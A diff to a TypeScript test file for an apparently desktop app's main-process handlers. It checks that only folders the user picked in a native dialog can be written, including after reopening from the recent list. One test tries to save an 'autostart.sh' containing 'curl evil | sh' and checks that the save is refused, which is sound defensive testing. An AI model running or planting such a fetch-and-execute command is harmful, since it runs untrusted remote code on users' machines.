@@ -44,8 +44,8 @@ interface Rig {
   settings: SettingsStore;
 }
 
-function rig(): Rig {
-  const settings = new SettingsStore(memoryFile(), {
+function rig(existing?: SettingsStore): Rig {
+  const settings = existing ?? new SettingsStore(memoryFile(), {
     cipher: { isAvailable: () => true, encrypt: (text) => `e:${text.split('').reverse().join('')}`, decrypt: (text) => text.slice(2).split('').reverse().join('') },
     defaultLanguage: 'en',
     exists: existsSync,
@@ -90,6 +90,13 @@ async function call<T>(dispatch: Dispatch, channel: string, ...args: unknown[]):
 async function runJob<T>(dispatch: Dispatch, channel: string, ...args: unknown[]): Promise<JobOutcome<T>> {
   const ticket = await call<{ jobId: string }>(dispatch, channel, ...args);
   return call<JobOutcome<T>>(dispatch, 'jobs:await', ticket.jobId);
+}
+
+/** The user picks the folder in the native dialog, then the page opens it: what grants writes. */
+async function openPicked(subject: Rig, folder: string): Promise<void> {
+  subject.dialogs.openFolder.mockResolvedValueOnce(folder);
+  expect(await call(subject.dispatch, 'dialog:open-folder')).toBe(folder);
+  await runJob(subject.dispatch, 'project:open', folder, {});
 }
 
 async function widgetFolder(defects: Record<string, unknown> = {}): Promise<string> {
@@ -167,10 +174,35 @@ describe('main-process handlers over the real services', () => {
   it('fixes BOM and CRLF only in a folder the user opened', async () => {
     const folder = await widgetFolder({ 'style.css': '\uFEFF.acme-deals {\r\n  display: flex;\r\n}\r\n' });
     await expect(subject.dispatch('project:fix', [folder])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
-    await runJob(subject.dispatch, 'project:open', folder, {});
+    await openPicked(subject, folder);
     const summary = await call<{ fixed: { path: string; removedBom: boolean; crlfLines: number }[] }>(subject.dispatch, 'project:fix', folder);
     expect(summary.fixed).toEqual([{ path: 'style.css', removedBom: true, crlfLines: 3 }]);
     expect(await readFile(join(folder, 'style.css'), 'utf8')).toBe('.acme-deals {\n  display: flex;\n}\n');
+  });
+
+  it('opens a folder the page names but the user never picked for reading only: saving into it is refused', async () => {
+    const folder = await widgetFolder({ 'style.css': '\uFEFF.acme-deals {}\n' });
+    const opened = await runJob<OpenedProject>(subject.dispatch, 'project:open', folder, {});
+    expect(opened.status).toBe('done');
+    const save = { folder, nestedRoot: null, files: [{ path: 'autostart.sh', text: 'curl evil | sh' }] };
+    await expect(subject.dispatch('project:save-files', [save])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
+    await expect(subject.dispatch('project:fix', [folder])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
+    expect(existsSync(join(folder, 'autostart.sh'))).toBe(false);
+    expect(await readFile(join(folder, 'style.css'), 'utf8')).toBe('\uFEFF.acme-deals {}\n');
+  });
+
+  it('lets a folder picked in an earlier session be written again when reopened from the recent list', async () => {
+    const folder = await widgetFolder({ 'style.css': '\uFEFF.acme-deals {}\n' });
+    await openPicked(subject, folder);
+    const named = await widgetFolder();
+    await runJob(subject.dispatch, 'project:open', named, {});
+    // A new session over the same settings: no dialog this time, only the recent list.
+    const next = rig(subject.settings);
+    await runJob(next.dispatch, 'project:open', folder, {});
+    await expect(call(next.dispatch, 'project:fix', folder)).resolves.toMatchObject({ fixed: [{ path: 'style.css' }] });
+    await runJob(next.dispatch, 'project:open', named, {});
+    await expect(next.dispatch('project:fix', [named])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
+    expect(next.settings.listRecentProjects().map((recent) => Object.keys(recent).includes('picked'))).toEqual([false, false]);
   });
 
   it('plans the package and leaves junk out', async () => {
@@ -204,7 +236,7 @@ describe('main-process handlers over the real services', () => {
     expect(result.images[0].data).toBeInstanceOf(Uint8Array);
     const save = { folder, nestedRoot: null, files: [], images: [{ setId: ticketId, folder: 'images' }] };
     await expect(subject.dispatch('project:save-files', [save])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
-    await runJob(subject.dispatch, 'project:open', folder, {});
+    await openPicked(subject, folder);
     const written = await call<{ written: string[] }>(subject.dispatch, 'project:save-files', save);
     expect(written.written).toContain('images/logo_main.png');
     expect((await readFile(join(folder, 'images', 'logo_main.png'))).length).toBe(result.images.find((image) => image.file === 'logo_main.png')?.bytes);
